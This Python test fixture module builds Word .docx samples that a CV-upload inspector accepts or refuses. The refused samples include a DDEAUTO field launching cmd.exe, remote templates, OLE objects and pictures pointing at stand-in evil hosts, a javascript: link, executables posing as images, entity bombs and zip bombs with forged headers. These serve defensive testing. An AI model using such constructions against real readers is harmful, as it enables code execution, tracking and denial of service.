"""Documents of Word since 2007, and what may be wrong with any zip."""

import io
import random
import struct
import zipfile

from models.documents.inspection.kinds import Reason
from tests import files
from tests.models.documents.samples.parts import DTD, EVIL, WEB


def docx(body: str = "", **parts: str | bytes) -> bytes:
    """A Word document with more in its body, and with parts whose names are given in `parts` as a mapping."""
    return files.archive(files.docx_parts(body=body) | parts)


def docx_link(kind: str, target: str, part: str = "document", mode: str = "External") -> bytes:
    return docx(**{f"word/_rels/{part}.xml.rels": files.relationships(kind, target, mode)})


def field(instruction: str) -> str:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    runs = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in instruction)
    return f"<w:p>{begin}{runs}{end}</w:p>"


def encrypted_entry(content: bytes) -> bytes:
    """The same zip with the flag of a password on each entry."""
    data = bytearray(content)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(signature)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(signature, place + 4)
    return bytes(data)


def lying_about_size(content: bytes, size: int) -> bytes:
    """The same zip whose directory promises that its last entry is small."""
    data = bytearray(content)
    place = data.rfind(b"PK\x01\x02")
    data[place + 24 : place + 28] = struct.pack("<I", size)
    return bytes(data)


def overlapping() -> bytes:
    """A Word document whose directory names the bytes of one entry twice."""
    data = docx(**{"word/a.xml": "<a/>"})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entry = archive.getinfo("word/a.xml")
    start, size = data.find(b"PK\x01\x02"), 46
    directory, end = data[start:-22], data[-22:]
    twin = bytearray(directory[directory.rfind(b"PK\x01\x02") :])
    twin[size : size + len(entry.filename)] = b"word/b.xml"
    count = struct.unpack_from("<H", end, 10)[0] + 1
    length = len(directory) + len(twin)
    return data[:start] + directory + bytes(twin) + end[:8] + struct.pack("<HHI", count, count, length) + end[16:]


WORD_DOCX = {
    "docProps/app.xml": "<Properties><Template>Normal.dotm</Template></Properties>",
    "docProps/core.xml": "<coreProperties><title>CV d'Amina</title></coreProperties>",
    "word/styles.xml": "<styles/>" + " " * 5000,
    "word/theme/theme1.xml": "<theme/>",
    "word/media/image1.png": files.png(),
    "word/_rels/document.xml.rels": files.relationships("hyperlink", WEB),
    "word/_rels/settings.xml.rels": files.relationships(
        "attachedTemplate", r"file:///C:\Users\Amina\AppData\Roaming\Microsoft\Templates\CV.dotx"
    ),
}
LIBREOFFICE_DOCX = {
    "word/fontTable.xml": "<fonts/>",
    "word/_rels/document.xml.rels": files.relationships("hyperlink", "mailto:amina@example.fr"),
}

# Does not shrink, so that the rest may grow a hundred times.
PHOTO = {"word/media/image1.png": random.Random(1).randbytes(300_000)}
ATTRIBUTES = " ".join(f"a{number}=''" for number in range(300_000))

WORD_TYPE = "wordprocessingml.document.main"
TYPES = str(files.docx_parts()["[Content_Types].xml"])
WORKBOOK = TYPES.replace(WORD_TYPE, "spreadsheetml.sheet.main")
WITH_MACROS = TYPES.replace(f"openxmlformats-officedocument.{WORD_TYPE}", "ms-word.document.macroEnabled.main")

ACCEPTED = {
    "a Word document with a photo, a link and a template": ("cv.docx", docx(**WORD_DOCX)),
    "a LibreOffice document saved for Word": ("cv.docx", docx(**LIBREOFFICE_DOCX)),
    "a document of Word online": (
        "cv.docx",
        files.archive({k.replace("document.xml", "document2.xml"): v for k, v in files.docx_parts().items()}),
    ),
    "a docx with page numbers and a link as fields": ("cv.docx", docx(field("PAGE") + field(f' HYPERLINK "{WEB}" '))),
    "a docx with a phone number to press": ("cv.docx", docx_link("hyperlink", "tel:+33102030405")),
    "a docx with an address without https": ("cv.docx", docx_link("hyperlink", "www.amina.example")),
}

REFUSED = {
    Reason.MISMATCH: {
        "a workbook": ("cv.docx", docx(**{"[Content_Types].xml": WORKBOOK})),
        "a zip that is also a pdf": ("cv.docx", files.archive({"%PDF-1.7": "x"} | files.docx_parts())),
        "a zip of anything": ("cv.docx", files.archive({"cv.txt": "CV"})),
    },
    Reason.MACROS: {
        "a docm": ("cv.docm", files.docx()),
        "a docm called docx": ("cv.docx", docx(**{"[Content_Types].xml": WITH_MACROS})),
        "a docx with a project": ("cv.docx", docx(**{"word/vbaProject.bin": b"x"})),
        "a docx with a project under another name": (
            "cv.docx",
            docx_link("vbaProject", "media/image9.bin", mode="Internal"),
        ),
    },
    Reason.ENCRYPTED: {
        "a docx": ("cv.docx", files.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"})),
        "entries of a zip": ("cv.docx", encrypted_entry(files.docx())),
    },
    Reason.EXTERNAL: {
        "docx: template from the network": ("cv.docx", docx_link("attachedTemplate", EVIL, "settings")),
        "docx: template from a shared folder": ("cv.docx", docx_link("attachedTemplate", r"\\evil\x.dotm", "settings")),
        "docx: template from a server by file": (
            "cv.docx",
            docx_link("attachedTemplate", "file://evil/x.dotm", "settings"),
        ),
        "docx: image": ("cv.docx", docx_link("image", "https://evil.example/pixel.png")),
        "docx: frame": ("cv.docx", docx_link("frame", "https://evil.example/")),
        "docx: linked object": ("cv.docx", docx_link("oleObject", EVIL)),
        "docx: embedded object": ("cv.docx", docx_link("oleObject", "embeddings/a.bin", mode="Internal")),
        "docx: embedded page": ("cv.docx", docx_link("aFChunk", "a.html", mode="Internal")),
        "docx: control": ("cv.docx", docx_link("control", "activeX1.xml", mode="Internal")),
        "docx: object under a picture's name": ("cv.docx", docx(**{"word/media/a.png": files.ole({"a": b"x"})})),
        "docx: program": ("cv.docx", docx(**{"word/media/a.png": files.exe()})),
        "docx: link to a script": ("cv.docx", docx_link("hyperlink", "javascript:alert(1)")),
        "docx: link to a file": ("cv.docx", docx_link("hyperlink", "file://evil/x")),
        "docx: link to a shared folder": ("cv.docx", docx_link("hyperlink", r"\\evil\x")),
        "docx: DDE cut into runs": ("cv.docx", docx(field('DDEAUTO c:\\\\cmd.exe "/k calc"'))),
        "docx: picture field": ("cv.docx", docx(field(' INCLUDEPICTURE "https://evil.example/p.png" \\d'))),
        "docx: simple DDE field": ("cv.docx", docx('<w:fldSimple w:instr=" DDE cmd x"/>')),
        "docx: simple DDE field after another": (
            "cv.docx",
            docx('<w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr=" DDE cmd x"/>'),
        ),
        "docx: drawing from the network": (
            "cv.docx",
            docx('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/p.png"/>'),
        ),
    },
    Reason.BOMB: {
        "over 500 entries": ("cv.docx", docx(**{f"word/{n}.xml": "<a/>" for n in range(500)})),
        "over 20 MB": (
            "cv.docx",
            docx(**{f"word/media/{n}.bmp": random.Random(n).randbytes(30_000) * 75 for n in range(10)}),
        ),
        "more than promised": ("cv.docx", lying_about_size(docx(**{"word/a.bmp": b"\0" * 5_000_000}), 10)),
        "millions of elements": ("cv.docx", files.slowest_docx()),
        "thousands of instructions": ("cv.docx", docx("<w:instrText>PAGE</w:instrText>" * 160_000, **PHOTO)),
        "thousands of attributes": ("cv.docx", docx(f"<a {ATTRIBUTES}/>", **PHOTO)),
        "megabytes of text": ("cv.docx", docx(" " * 8_000_000, **PHOTO)),
        "a docx in a docx": ("cv.docx", docx(**{"word/media/image1.png": files.docx()})),
        "a docm in a docx": (
            "cv.docx",
            docx(**{"word/media/a.bin": files.archive({"[Content_Types].xml": WITH_MACROS})}),
        ),
        "an empty zip in a docx": ("cv.docx", docx(**{"word/media/a.bin": files.archive({})})),
        "zip in a zip": ("cv.docx", docx(**{"word/embeddings/a.xlsx": files.archive({"a": "a"})})),
        "entries one over the other": ("cv.docx", overlapping()),
        "entities in a docx": ("cv.docx", docx(**{"word/footnotes.xml": DTD})),
        "entities in wide letters": ("cv.docx", docx(**{"word/footnotes.xml": DTD.encode("utf-16")})),
        "XML without a bottom": ("cv.docx", docx(**{"word/a.xml": "<a>" * 2000})),
    },
    Reason.DAMAGED: {
        "a docx without its document": (
            "cv.docx",
            files.archive({k: v for k, v in files.docx_parts().items() if "document" not in k}),
        ),
        "a docx with broken XML": ("cv.docx", docx(**{"word/styles.xml": "<styles>"})),
        "a zip with something behind": ("cv.docx", files.docx() + b"MZ"),
        "a zip with one entry twice": ("cv.docx", docx(**{"WORD/DOCUMENT.XML": "<a/>"})),
    },
}
